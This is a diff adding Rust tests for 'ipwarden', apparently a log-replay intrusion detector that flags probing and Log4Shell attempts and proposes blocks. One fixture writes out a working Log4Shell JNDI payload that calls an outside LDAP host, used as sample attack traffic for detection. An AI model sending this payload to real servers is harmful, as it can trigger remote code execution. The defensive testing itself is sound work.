@@ -1,0 +1,129 @@
+//! `ipwarden replay` and `ipwarden rules`: without a service, from files.
+
+use std::io::Write as _;
+
+use flate2::Compression;
+use flate2::write::GzEncoder;
+use serde_json::json;
+
+use crate::bench::alone;
+
+fn probe(client: &str, second: u32) -> String {
+    format!(
+        "{client} - - [22/Nov/2026:16:00:{second:02} +0000] \"GET /missing/{second} HTTP/1.1\" 404 153 \"-\" \"Firefox/145.0\"\n"
+    )
+}
+
+fn attack(client: &str) -> String {
+    format!(
+        "{client} - - [22/Nov/2026:16:01:00 +0000] \"GET /x?q=$%7Bjndi:ldap://198.51.100.9/a%7D HTTP/1.1\" 200 153 \"-\" \"Firefox/145.0\"\n"
+    )
+}
+
+/// Twelve probes and an attack, with a line of something else in between.
+fn log() -> String {
+    let mut text: String = (0..12).map(|second| probe("203.0.113.7", second)).collect();
+    text.push_str("Nov 22 16:00:30 host kernel: nothing of ours\n\n");
+    text.push_str(&attack("203.0.113.8"));
+    text.push_str(&attack("10.0.0.8"));
+    text
+}
+
+#[test]
+fn a_log_gives_suspects_with_reasons_and_what_would_be_done() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("access.log"), log()).unwrap();
+    let ended = alone(dir.path(), &["replay", "access.log", "-o", "json"]).expect(0);
+    let found = ended.json();
+    assert_eq!((&found["lines"], &found["rejected"]), (&json!(15), &json!(1)));
+    assert!(ended.stderr.contains("1 line was not read, such as:"), "{}", ended.stderr);
+    assert!(ended.stderr.contains("access.log:13: "), "{}", ended.stderr);
+    let suspects = found["suspects"].as_array().unwrap();
+    let told: Vec<_> = suspects
+        .iter()
+        .map(|one| (one["ip"].as_str().unwrap(), one["action"].as_str().unwrap()))
+        .collect();
+    // A private address is never blocked.
+    assert_eq!(told, [("10.0.0.8", "review"), ("203.0.113.8", "block"), ("203.0.113.7", "review")]);
+    let reason = &suspects[2]["reasons"][0];
+    assert_eq!((&reason["rule"], &reason["count"]), (&json!("probing"), &json!(12)));
+    assert_eq!(reason["first_seen"], "2026-11-22T16:00:00Z");
+    assert!(suspects[2]["score"].as_f64().is_some_and(|score| (0.0..=1.0).contains(&score)));
+
+    let people = alone(dir.path(), &["replay", "access.log"]).expect(0).stdout;
+    assert!(people.contains("blocked 4h") && people.contains("reviewed"), "{people}");
+    assert!(
+        people.ends_with("3 suspects in 15 lines: 1 would have been blocked, 2 left for review.\n"),
+        "{people}"
+    );
+    let raw = alone(dir.path(), &["replay", "access.log", "-o", "raw"]).expect(0).stdout;
+    assert!(
+        raw.contains("203.0.113.7\treview\t0.700\tprobing\t12\t2026-11-22T16:00:00Z\t"),
+        "{raw}"
+    );
+}
+
+#[test]
+fn gzipped_logs_and_several_files_are_read_in_their_order() {
+    let dir = tempfile::tempdir().unwrap();
+    let lines: Vec<String> = (0..12).map(|second| probe("203.0.113.7", second)).collect();
+    let mut packed = Vec::new();
+    // Two members, as appending log rotation leaves them.
+    for piece in lines[..6].chunks(3) {
+        let mut gzip = GzEncoder::new(Vec::new(), Compression::fast());
+        gzip.write_all(piece.concat().as_bytes()).unwrap();
+        packed.extend(gzip.finish().unwrap());
+    }
+    std::fs::write(dir.path().join("access.log.1.gz"), packed).unwrap();
+    std::fs::write(dir.path().join("access.log"), lines[6..].concat()).unwrap();
+    let arguments = ["replay", "access.log.1.gz", "access.log", "-o", "json"];
+    let found = alone(dir.path(), &arguments).expect(0).json();
+    assert_eq!(found["suspects"][0]["reasons"][0]["count"], 12);
+    let half = alone(dir.path(), &["replay", "access.log.1.gz", "-o", "json"]).expect(0).json();
+    assert_eq!((&half["lines"], half["suspects"].as_array().unwrap().len()), (&json!(6), 0));
+}
+
+#[test]
+fn other_thresholds_and_other_rules_are_tried() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("access.log"), log()).unwrap();
+    let with = |name: &str, text: &str| {
+        std::fs::write(dir.path().join(name), text).unwrap();
+        alone(dir.path(), &["replay", "access.log", "--config", name, "-o", "json"])
+    };
+    let settings = "[detect]\nhigh = \"block\"\ncritical = \"none\"\n";
+    let found = with("ipwarden.toml", settings).expect(0).json();
+    let suspects = found["suspects"].as_array().unwrap();
+    assert_eq!(suspects.len(), 1);
+    assert_eq!(
+        (&suspects[0]["ip"], &suspects[0]["action"]),
+        (&json!("203.0.113.7"), &json!("block"))
+    );
+    let found = with("rules.toml", "disable = [\"log4shell\", \"probing\"]\n").expect(0).json();
+    assert_eq!(found["suspects"], json!([]));
+    let error = with("bad.toml", "[adjust.probing]\ncapacity = -1\n").expect(2).stderr;
+    assert!(error.contains("line 2: ") && error.contains("capacity"), "{error}");
+    let missing = alone(dir.path(), &["replay", "nowhere.log"]);
+    assert_ne!(missing.code, 0);
+    assert!(missing.stderr.contains("nowhere.log"), "{}", missing.stderr);
+}
+
+#[test]
+fn the_rules_are_listed_and_their_examples_hold() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = alone(dir.path(), &["rules", "-o", "json"]).expect(0).json();
+    let rules = rules.as_array().unwrap();
+    assert!(rules.len() > 60 && rules.iter().all(|rule| rule["description"].is_string()));
+    let tested = alone(dir.path(), &["rules", "test", "-o", "json"]).expect(0).json();
+    assert_eq!((&tested["failures"], &tested["rules"]), (&json!([]), &json!(rules.len())));
+    assert!(tested["examples"].as_u64() > Some(200), "{tested}");
+    // An example that does not hold is named with its line.
+    let rule = "[[rule]]\nname = \"tea\"\ndescription = \"Asks for tea.\"\nsays = \"asks for tea\"\nseverity = \"high\"\ncapacity = 0\nleak = \"1m\"\n[[rule.match]]\n[rule.match.path]\nexact = [\"/tea\"]\n[[rule.examples]]\nlines = ['203.0.113.7 - - [22/Nov/2026:16:00:00 +0000] \"GET /coffee HTTP/1.1\" 200 1 \"-\" \"-\"']\nexpect = \"203.0.113.7\"\n";
+    std::fs::write(dir.path().join("rules.toml"), rule).unwrap();
+    let failed = alone(dir.path(), &["rules", "test", "rules.toml"]).expect(1);
+    assert!(
+        failed.stderr.contains("failed: tea, line 11: expected a flag for 203.0.113.7"),
+        "{}",
+        failed.stderr
+    );
+}
